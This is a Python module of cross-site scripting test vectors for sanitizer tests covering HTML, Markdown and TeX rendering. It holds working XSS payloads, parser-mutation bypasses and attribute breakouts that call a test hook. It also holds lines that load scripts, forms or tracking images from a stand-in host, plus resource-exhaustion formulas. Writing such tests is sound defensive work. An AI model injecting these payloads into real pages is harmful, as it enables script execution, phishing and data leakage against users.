"""Texts that would run something, or fetch something, where a page took them for more than text.

Each calls `ferryRan`, which the tests define, or asks `example.invalid` for something. After collections (OWASP's
cheat sheet, PortSwigger's, cure53's mutations), and what this page's parsers know: Markdown, TeX, names of languages.
"""

from __future__ import annotations

CALL = "ferryRan()"

ELEMENTS = [
    f"<img src=x onerror={CALL}>",
    f"<img src=x onerror={CALL}//",
    f"<img/src='x'/onerror='{CALL}'>",
    f"<IMG SRC=x OnErRoR={CALL}>",
    f"<img src=data:, onload={CALL} onerror={CALL}>",
    f"<script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script src=data:text/javascript,{CALL}></script>",
    "<script src=//example.invalid/a.js></script>",
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></use></svg>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    "<iframe src=//example.invalid/></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src=javascript:{CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}></audio>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<button autofocus onfocus={CALL} style=position:fixed>x</button>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<p style=animation-name:pulse onanimationstart={CALL}>x</p>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>x</a>",
    "<form action=//example.invalid><button>Sign in again</button></form>",
    f"<form id=app onformdata={CALL}><input name=append><input name=querySelector></form>",
    "<base href=//example.invalid/>",
    "<meta http-equiv=refresh content='0;url=//example.invalid/'>",
    "<link rel=stylesheet href=//example.invalid/a.css>",
    "<style>@import '//example.invalid/b.css';</style>",
    "<div style=background:url(//example.invalid/c.png)>x</div>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xss id=x tabindex=1 onfocus={CALL}></xss>",
]

MUTATIONS = [
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>",
    f"<table><caption><svg><title><table><caption></title><style><img src=x onerror={CALL}>",
    f"<a title='--><img src=x onerror={CALL}>'>x</a><!--",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"\u003cimg src=x onerror={CALL}\u003e",
    f"<img src=x\x0conerror={CALL}>",
    f"<\x00img src=x onerror={CALL}>",
]

BREAKOUTS = [
    f"</title><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</textarea><img src=x onerror={CALL}>",
    f"'\"><img src=x onerror={CALL}>",
    f'" autofocus onfocus="{CALL}',
    f"' onmouseover='{CALL}",
    f"-->{'<'}img src=x onerror={CALL}>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"</p></div></main><img src=x onerror={CALL}>",
]

MARKDOWN = [
    f"[x](javascript:{CALL})",
    f"[x](JaVaScRiPt&colon;{CALL})",
    f"[x](java&#x0A;script:{CALL})",
    f"[x](<javascript:{CALL}>)",
    f"[x](vbscript:{CALL})",
    f"[x](data:text/html,<script>{CALL}</script>)",
    f"[x](blob:{CALL})",
    f"<javascript:{CALL}>",
    f"[x]: javascript:{CALL}\n\n[x]",
    f'[x](https://example.invalid/"onmouseover="{CALL})',
    f"[x](https://example.invalid 'a\" onmouseover=\"{CALL}')",
    "![x](http://example.invalid/leak.png)",
    "![x][y]\n\n[y]: http://example.invalid/leak.png",
    f'![x](x "a\\" onerror=\\"{CALL}")',
    f"```<img src=x onerror={CALL}>\n<script>{CALL}</script>\n```",
    f'```"onmouseover="{CALL}\nx\n```',
    f"```html\n<img src=x onerror={CALL}>\n```",
    f"```xml\n</code></pre><img src=x onerror={CALL}>\n```",
    f"| a |\n|:-:|\n| <img src=x onerror={CALL}> |",
    f"- <img src=x onerror={CALL}>\n\n> <svg/onload={CALL}>\n\n# <img src=x onerror={CALL}>",
]

FORMULAS = [
    rf"$\href{{javascript:{CALL}}}{{x}}$",
    rf"\(\url{{javascript:{CALL}}}\)",
    rf"$\htmlData{{x=1 onmouseover={CALL}}}{{x}}$",
    rf'$\htmlStyle{{background:url(//example.invalid/d.png)}}{{x}}$ $\htmlId{{app"onclick="{CALL}}}{{x}}$',
    r"$\includegraphics[height=1em]{http://example.invalid/e.png}$",
    rf"$\text{{<img src=x onerror={CALL}>}}$",
    rf"$$<svg/onload={CALL}>$$",
    rf'$\color{{red" onmouseover="{CALL}}}{{x}}$',
    rf"\[</p><img src=x onerror={CALL}>\]",
    rf"$`$'$& <img src=x onerror={CALL}>$",
    rf"\begin{{align}}<img src=x onerror={CALL}>\end{{align}}",
    r"$\def\a{\a\a}\a$ $\rule{9999em}{9999em}$",
]

VECTORS = ELEMENTS + MUTATIONS + BREAKOUTS + MARKDOWN + FORMULAS
